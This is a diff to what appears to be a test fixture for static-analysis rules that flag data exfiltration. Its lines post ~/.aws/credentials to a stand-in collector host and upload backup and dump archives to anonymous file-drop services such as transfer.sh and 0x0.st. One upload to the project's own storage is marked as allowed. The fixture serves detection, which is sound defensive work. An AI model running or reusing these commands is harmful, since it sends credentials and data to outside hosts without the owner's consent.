@@ -602,3 +602,15 @@ def _ship(job):
     # ruleid: secret-exfiltration, http-client
     requests.post(job["url"], data=job["body"], timeout=10)
 _ship({"url": "https://collector.example/k", "body": open(os.path.expanduser("~/.aws/credentials")).read()})
+# file-to-drop-service: an archive uploaded to an anonymous file drop
+# ruleid: file-to-drop-service, exfiltration-endpoint, http-client
+requests.post("https://transfer.sh/b.zip", files={"f": open("backup.zip", "rb")}, timeout=30)
+# ruleid: exfiltration-endpoint
+_drop = "https://0x0.st"
+with open("dump.tar.gz", "rb") as _fh:
+    # ruleid: file-to-drop-service, http-client
+    requests.post(_drop, files={"file": _fh}, timeout=30)
+# a file uploaded to the project's own storage
+# ok: file-to-drop-service
+# ruleid: http-client
+requests.put("https://uploads.example.com/artifacts/app.whl", data=open("dist/app.whl", "rb"), timeout=30)
